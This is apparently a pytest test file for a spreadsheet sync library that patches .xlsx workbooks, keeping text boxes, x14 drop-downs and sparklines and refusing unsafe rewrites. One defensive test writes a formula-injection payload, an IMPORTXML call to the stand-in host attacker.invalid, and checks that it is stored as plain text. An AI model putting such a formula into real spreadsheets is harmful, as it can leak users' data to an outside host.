"""The local .xlsx sync keeps every part of the trader's file it does not own: a text box, an
x14 drop-down listing another sheet and a sparkline group (none of which openpyxl can carry
through a save) survive a sync byte for byte, and openpyxl and LibreOffice still open the file
and see the new values. ``init``, which rewrites through openpyxl, refuses such a file instead."""

from __future__ import annotations

import io
import math
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

import leverage_sheets as sb
from leverage.layout import JOURNAL_EVENTS
from leverage_sheets.xlsx_package import Package, _Sheet, patch_sheet

# openpyxl warns that it drops these parts when the tests read the result: the sync kept them.
pytestmark = pytest.mark.filterwarnings("ignore:.*extension is not supported:UserWarning")

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEXT_BOX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:twoCellAnchor>'
    "<xdr:from><xdr:col>22</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>"
    "<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>26</xdr:col><xdr:colOff>0"
    "</xdr:colOff><xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
    '<xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="TextBox 1"/>'
    '<xdr:cNvSpPr txBox="1"/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="2438400" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
    '</xdr:spPr><xdr:txBody><a:bodyPr wrap="square" rtlCol="0" anchor="t"/><a:lstStyle/><a:p>'
    '<a:r><a:rPr lang="en-US" sz="1100"/><a:t>Check funding before Friday</a:t></a:r></a:p>'
    "</xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
)
SHEET_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rIdTextBox" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/drawing" Target="../drawings/drawing99.xml"/></Relationships>'
)
X14 = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'
XM = 'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
EXTENSIONS = (
    f'<extLst><ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}" {X14}>'
    f'<x14:dataValidations count="1" {XM}><x14:dataValidation type="list" allowBlank="1" '
    'showErrorMessage="1"><x14:formula1><xm:f>Positions!$A$2:$A$50</xm:f></x14:formula1>'
    "<xm:sqref>B2:B1001</xm:sqref></x14:dataValidation></x14:dataValidations></ext>"
    f'<ext uri="{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}" {X14}><x14:sparklineGroups {XM}>'
    '<x14:sparklineGroup displayEmptyCellsAs="gap"><x14:colorSeries rgb="FF376092"/>'
    '<x14:colorNegative rgb="FFD00000"/><x14:colorAxis rgb="FF000000"/>'
    '<x14:colorMarkers rgb="FFD00000"/><x14:colorFirst rgb="FFD00000"/>'
    '<x14:colorLast rgb="FFD00000"/><x14:colorHigh rgb="FFD00000"/><x14:colorLow rgb="FFD00000"/>'
    "<x14:sparklines><x14:sparkline><xm:f>Events!D2:D17</xm:f><xm:sqref>W2</xm:sqref>"
    "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"
)


def laid_out(path: Path) -> Path:
    sb.init(sb.open_local(path), "journal", sample=True)
    return path


def add_excel_parts(path: Path) -> None:
    """Give the Events sheet what Excel writes and openpyxl drops: a text box (a drawing
    shape), an x14 drop-down listing another sheet and a sparkline group."""
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    part = Package(path.read_bytes(), "x").sheets["Events"]
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == part:
                data = data.replace(b"<worksheet ", f'<worksheet xmlns:r="{R_NS}" '.encode(), 1)
                data = data.replace(b"</worksheet>", b'<drawing r:id="rIdTextBox"/>'
                                    + EXTENSIONS.encode() + b"</worksheet>")
            elif info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/drawings/drawing99.xml" '
                                    b'ContentType="application/vnd.openxmlformats-officedocument.'
                                    b'drawing+xml"/></Types>')
            z.writestr(info, data)
        z.writestr("xl/drawings/drawing99.xml", TEXT_BOX)
        z.writestr(rels, SHEET_RELS)
    path.write_bytes(out.getvalue())


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def outside_cells(xml: bytes) -> tuple[bytes, bytes]:
    """The sheet XML before and after its cell data, the dimension left out."""
    head, rest = xml.split(b"<sheetData", 1)
    return re.sub(rb"<dimension [^>]*/>", b"", head), rest.split(b"</sheetData>", 1)[1]


def computed(path: Path) -> list[list[object]]:
    ws = openpyxl.load_workbook(path)["Events"]
    first = JOURNAL_EVENTS.index(JOURNAL_EVENTS.keys("computed")[0]) + 1
    return [[c.value for c in row] for row in ws.iter_rows(min_row=2, min_col=first,
                                                           max_col=len(JOURNAL_EVENTS.columns))]


def inputs(path: Path) -> dict[str, list[list[object]]]:
    wb = openpyxl.load_workbook(path)
    n = len(JOURNAL_EVENTS.keys("input"))
    return {t: [[c.value for c in row[:n]] for row in wb[t].iter_rows()] for t in wb.sheetnames
            if t != "Summary"}  # every cell of the Summary is the sync's


@pytest.fixture
def featured(tmp_path: Path) -> Path:
    path = laid_out(tmp_path / "featured.xlsx")
    add_excel_parts(path)
    return path


def test_sync_keeps_text_box_x14_drop_down_and_sparklines(featured: Path, tmp_path: Path) -> None:
    plain = laid_out(tmp_path / "plain.xlsx")
    before = members(featured)
    typed = inputs(featured)
    report = sb.sync(sb.open_local(featured), "journal")
    assert report.changed and report.rows_with_errors == 0
    after = members(featured)
    package = Package(featured.read_bytes(), "x")
    events, summary = package.sheets["Events"], package.sheets["Summary"]
    assert list(after) == list(before)  # same members, same order
    for name, data in before.items():
        if name not in (events, summary):  # the sheets the sync writes values into
            assert after[name] == data, name  # the drawing, its rels, the other sheets...
    assert outside_cells(after[summary]) == outside_cells(before[summary])
    assert outside_cells(after[events]) == outside_cells(before[events])
    assert EXTENSIONS.encode() in after[events]
    # openpyxl opens the result and reads what a plain workbook gets from the same sync
    sb.sync(sb.open_local(plain), "journal")
    assert computed(featured) == computed(plain)
    assert inputs(featured) == typed
    assert sb.sync(sb.open_local(featured), "journal").changed is False  # values read back


def test_a_file_laid_out_before_wrapping_gets_its_long_texts_wrapped_and_keeps_the_rest(
        tmp_path: Path) -> None:
    """A workbook laid out by an older init (its Status, Check and Rule breaks columns do not
    wrap) and given Excel's parts: the sync's long-text cells get a style of their own that
    wraps, a copy of theirs (the fill, the number format kept), appended to the styles part,
    whose other cell formats stay byte for byte; every part the sync does not write stays
    as it was; a second sync adds no style."""
    from openpyxl.styles import Alignment

    from leverage import layout as L

    path = laid_out(tmp_path / "old.xlsx")
    wb = openpyxl.load_workbook(path)
    for i, col in enumerate(JOURNAL_EVENTS.columns, start=1):
        if L.wraps(col):  # as init laid them out before
            wb["Events"].column_dimensions[get_column_letter(i)].alignment = Alignment()
    wb.save(path)
    add_excel_parts(path)
    before = members(path)
    reason = f"{JOURNAL_EVENTS.letter('reason')}2"
    typed_look = repr(openpyxl.load_workbook(path)["Events"][reason].alignment)
    sb.sync(sb.open_local(path), "journal")
    after = members(path)
    package = Package(path.read_bytes(), "x")
    styles = "xl/styles.xml"
    written = (package.sheets["Events"], package.sheets["Summary"], styles)
    assert list(after) == list(before)
    for name, data in before.items():
        if name not in written:
            assert after[name] == data, name
    old_xfs = before[styles].split(b"<cellXfs", 1)[1].split(b"</cellXfs>", 1)[0]
    new_xfs = after[styles].split(b"<cellXfs", 1)[1].split(b"</cellXfs>", 1)[0]
    assert new_xfs.split(b">", 1)[1].startswith(old_xfs.split(b">", 1)[1])  # appended only
    assert before[styles].split(b"<cellXfs")[0] == after[styles].split(b"<cellXfs")[0]
    ws = openpyxl.load_workbook(path)["Events"]
    breaks = JOURNAL_EVENTS.index("rule_breaks") + 1
    rows = [r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=breaks).value]
    assert len(rows) >= 4
    for r in rows:
        cell = ws.cell(row=r, column=breaks)
        assert cell.alignment.wrap_text and cell.alignment.vertical == "top"
        assert cell.fill.fgColor.rgb.endswith(L.COMPUTED_FILL)
        need = L.wrapped_lines(cell.value, ws.column_dimensions[cell.column_letter].width)
        assert (ws.row_dimensions[r].height or L.LINE_HEIGHT) >= need * L.LINE_HEIGHT
    assert repr(ws[reason].alignment) == typed_look  # the trader's cells keep their look
    again = members(path)
    sb.sync(sb.open_local(path), "journal")
    assert members(path)[styles] == again[styles]


def test_init_refuses_a_workbook_it_would_strip(featured: Path) -> None:
    before = featured.read_bytes()
    with pytest.raises(sb.SheetsError) as err:
        sb.init(sb.open_local(featured), "journal")
    msg = str(err.value)
    for lost in ("text boxes or shapes", "drop-downs listing another sheet", "sparklines"):
        assert lost in msg
    assert "nothing was changed" in msg and featured.read_bytes() == before


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_patched_file(featured: Path, tmp_path: Path) -> None:
    sb.sync(sb.open_local(featured), "journal")
    out = tmp_path / "lo"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--norestore", "--convert-to", "xlsx", "--outdir", str(out), str(featured)],
        check=True, capture_output=True, timeout=180,
    )
    converted = out / featured.name
    assert converted.exists()
    ws = openpyxl.load_workbook(converted, data_only=True)["Events"]
    status = JOURNAL_EVENTS.letter("status")
    margin = JOURNAL_EVENTS.letter("margin")
    at = JOURNAL_EVENTS.keys("computed").index("margin")
    assert ws[f"{margin}2"].value == pytest.approx(computed(featured)[0][at])
    assert ws[f"{status}2"].value in (None, "")
    assert isinstance(ws[f"{JOURNAL_EVENTS.letter('liq_price')}2"].value, float)


# ------------------------------------------------------------------------ the patcher


def test_patch_keeps_prefixes_implicit_positions_and_text_as_text() -> None:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = (
        f'<x:worksheet xmlns:x="{ns}"><x:dimension ref="A1:B2"/><x:cols>'
        '<x:col min="3" max="3" style="4"/></x:cols><x:sheetData>'
        '<x:row r="1"><x:c t="inlineStr"><x:is><x:t>a</x:t></x:is></x:c><x:c><x:v>2</x:v></x:c>'
        '</x:row><x:row spans="1:2"><x:c r="A2" s="1"><x:v>3</x:v></x:c></x:row>'
        '<x:row r="4" ht="20" customHeight="1"/></x:sheetData><x:pageMargins left="1"/>'
        "</x:worksheet>"
    ).encode()
    text = "=HYPERLINK(\"x\") & <b> _x0041_ \x07 \r\n"
    new = patch_sheet(xml, "S", {2: {3: text, 1: 5}, 4: {2: 1.5}, 6: {1: True, 2: ""}})
    assert new.endswith(b"</x:sheetData><x:pageMargins left=\"1\"/></x:worksheet>")
    assert b'<x:dimension ref="A1:C6"/>' in new
    assert b'<x:row spans="1:3"><x:c r="A2" s="1"><x:v>5</x:v></x:c><x:c r="C2" s="4" ' in new
    assert b'<x:row r="4" ht="20" customHeight="1"><x:c r="B4"><x:v>1.5</x:v></x:c></x:row>' in new
    assert b'<x:row r="6"><x:c r="A6" t="b"><x:v>1</x:v></x:c></x:row>' in new
    assert new.startswith(xml.split(b"<x:row spans")[0].replace(b"A1:B2", b"A1:C6"))
    sheet = _Sheet(new, "S")  # read back through the package reader
    got = {}
    for row in sheet.rows():
        for col, m in sheet.cells(row):
            got[(row.number, col)] = sheet.value(m, list)
    assert got[(1, 1)] == "a" and got[(1, 2)] == 2 and got[(2, 3)] == text
    assert got[(4, 2)] == 1.5 and got[(6, 1)] is True


def test_a_written_text_is_never_a_formula(tmp_path: Path) -> None:
    path = laid_out(tmp_path / "j.xlsx")
    backend = sb.open_local(path)
    injection = '=IMPORTXML("http://attacker.invalid/","//a")'
    status = JOURNAL_EVENTS.letter("status")
    backend.write_ranges([sb.Update(f"'Events'!{status}3:{status}3", [[injection]])])
    ws = openpyxl.load_workbook(path)["Events"]
    assert ws[f"{status}3"].data_type == "s" and ws[f"{status}3"].value == injection


@given(st.lists(st.one_of(st.text(max_size=40), st.floats(allow_nan=False), st.booleans(),
                          st.integers(-10**15, 10**15), st.none()), min_size=1, max_size=6))
@settings(max_examples=100, deadline=None)
def test_any_value_patched_in_is_well_formed_and_reads_back(values: list[object]) -> None:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = (f'<worksheet xmlns="{ns}"><sheetData><row r="2"><c r="A2" t="inlineStr"><is>'
           "<t>typed</t></is></c></row></sheetData></worksheet>").encode()
    new = patch_sheet(xml, "S", {2: {c: v for c, v in enumerate(values, start=2)}})
    ElementTree.fromstring(new)  # well-formed XML whatever the text
    sheet = _Sheet(new, "S")
    got = {col: sheet.value(m, list) for row in sheet.rows() for col, m in sheet.cells(row)}
    assert got.pop(1) == "typed"
    for c, v in enumerate(values, start=2):
        want = None if v == "" or v is None or (isinstance(v, float) and math.isinf(v)) else v
        assert got.get(c) == want and type(got.get(c)) is type(want), (c, v)


def test_cells_out_of_order_are_refused_not_guessed() -> None:
    rows = ('<row r="3"><c r="A3"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>',
            '<row r="2"><c r="C2"><v>1</v></c><c r="B2"><v>1</v></c></row>')
    for data in rows:
        xml = f"<worksheet><sheetData>{data}</sheetData></worksheet>".encode()
        with pytest.raises(sb.SheetsError, match="the sheet's cells are out of order"):
            patch_sheet(xml, "S", {2: {4: 1.0}})
